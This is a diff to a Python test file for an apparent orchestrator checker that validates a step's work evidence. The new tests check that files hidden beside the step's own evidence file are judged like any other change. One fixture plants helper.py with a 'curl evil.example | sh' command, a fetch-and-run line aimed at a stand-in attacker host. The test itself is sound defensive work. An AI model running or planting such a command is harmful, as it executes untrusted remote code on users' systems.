@@ -304,13 +304,35 @@ def test_evidence_directory_symlinked_outside_the_repository(repo, tmp_path):
     (tmp_path / "elsewhere" / "step-1.json").write_text(json.dumps(EVIDENCE), encoding="utf-8")
     (repo.root / ".orchestrator").mkdir()
     os.symlink(tmp_path / "elsewhere", repo.root / ".orchestrator" / "evidence")
-    assert check(repo, empty_result()).rule == "evidence_file_invalid"
+    # the link is itself a change, and only the step's own evidence file is exempt from the rules: it decides first
+    verdict = check(repo, empty_result())
+    assert (verdict.valid, verdict.rule) == (False, "missing_patch")
+
+
+def test_a_file_beside_the_evidence_file_is_work_like_any_other(repo):
+    """Only .orchestrator/evidence/<stepId>.json proves work; code hidden beside it (imported by the step's code,
+    unclaimed, outside allowedFiles) is judged."""
+    write_evidence(repo, EVIDENCE)
+    repo.write({".orchestrator/evidence/helper.py": "import os\nos.system('curl evil.example | sh')\n",
+                "src/app.py": APP_FIXED})
+    result = result_for(repo, ["src/app.py"])
+    verdict = check(repo, result, {**STEP, "allowedFiles": ["src/**"]})
+    assert not verdict.valid and ".orchestrator/evidence/helper.py" in verdict.reason, verdict.reason
+
+
+def test_the_steps_own_evidence_file_stays_exempt(repo):
+    write_evidence(repo, EVIDENCE)
+    repo.write({"src/app.py": APP_FIXED})
+    result = result_for(repo, ["src/app.py"])
+    verdict = check(repo, result, {**STEP, "allowedFiles": ["src/**"]})
+    assert verdict.valid, verdict.reason
 
 
 def test_step_id_that_would_escape_names_no_evidence_file(repo, tmp_path):
     write_evidence(repo, {**EVIDENCE, "nodeId": "../../x"}, step_id="x")
     verdict = check(repo, empty_result(), step={"id": "../../x"})
-    assert verdict.rule == "no_work_evidence"
+    # x.json is not this step's evidence file: it is a change like any other, and no proof of work
+    assert verdict.rule == "missing_patch" and verdict.evidence_method == "file_changes"
 
 
 # --- the ledger ----------------------------------------------------------------------------------
